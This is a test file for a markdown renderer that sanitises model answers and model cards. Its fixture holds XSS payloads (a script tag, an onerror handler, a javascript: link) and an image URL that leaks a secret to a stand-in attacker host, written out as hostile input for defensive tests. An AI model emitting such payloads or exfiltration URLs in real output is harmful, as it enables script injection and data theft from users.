/** Markdown from outside (model answers, model cards) rendered to HTML with the app's own component. */
import { describe, expect, it } from 'vitest';
import { renderToStaticMarkup } from 'react-dom/server';
import { QueryClient, QueryClientProvider } from '@tanstack/react-query';
import { ApiProvider } from '../../../src-renderer/api/context';
import { SafeMarkdown } from '../../../src-renderer/components/SafeMarkdown';
import type { Api } from '../../../src-renderer/api/client';

function render(text: string, images: 'hub' | 'none'): string {
  const api = { call: () => new Promise(() => {}), on: () => () => {}, transport: {} } as unknown as Api;
  return renderToStaticMarkup(
    <QueryClientProvider client={new QueryClient()}>
      <ApiProvider api={api}>
        <SafeMarkdown text={text} images={images} />
      </ApiProvider>
    </QueryClientProvider>,
  );
}

const HOSTILE = [
  'Here is **bold** and code:',
  '',
  '```js',
  'console.log("<b>hi</b>")',
  '```',
  '',
  '<script>alert(1)</script><img src=x onerror="alert(2)">',
  '',
  '[ok](https://example.com/page) [bad](javascript:alert(3))',
  '',
  '![exfil](https://evil.example/leak?c=secret) ![hub](https://huggingface.co/a.png)',
].join('\n');

describe('safe markdown', () => {
  it('renders a model answer with code blocks but no HTML, no script links and no images at all', () => {
    const html = render(HOSTILE, 'none');
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toMatch(/<pre><code class="language-js">console.log\(&quot;&lt;b&gt;hi&lt;\/b&gt;&quot;\)/);
    expect(html).not.toMatch(/<script|onerror|<img/);
    expect(html).toContain('href="https://example.com/page"');
    expect(html).not.toContain('javascript:');
    expect(html).toContain('[image: exfil]');
    expect(html).toContain('[image: hub]');
  });

  it('shows images from the Hub only in model cards', () => {
    const html = render(HOSTILE, 'hub');
    expect(html).toContain('src="https://huggingface.co/a.png"');
    expect(html).not.toContain('evil.example');
  });
});
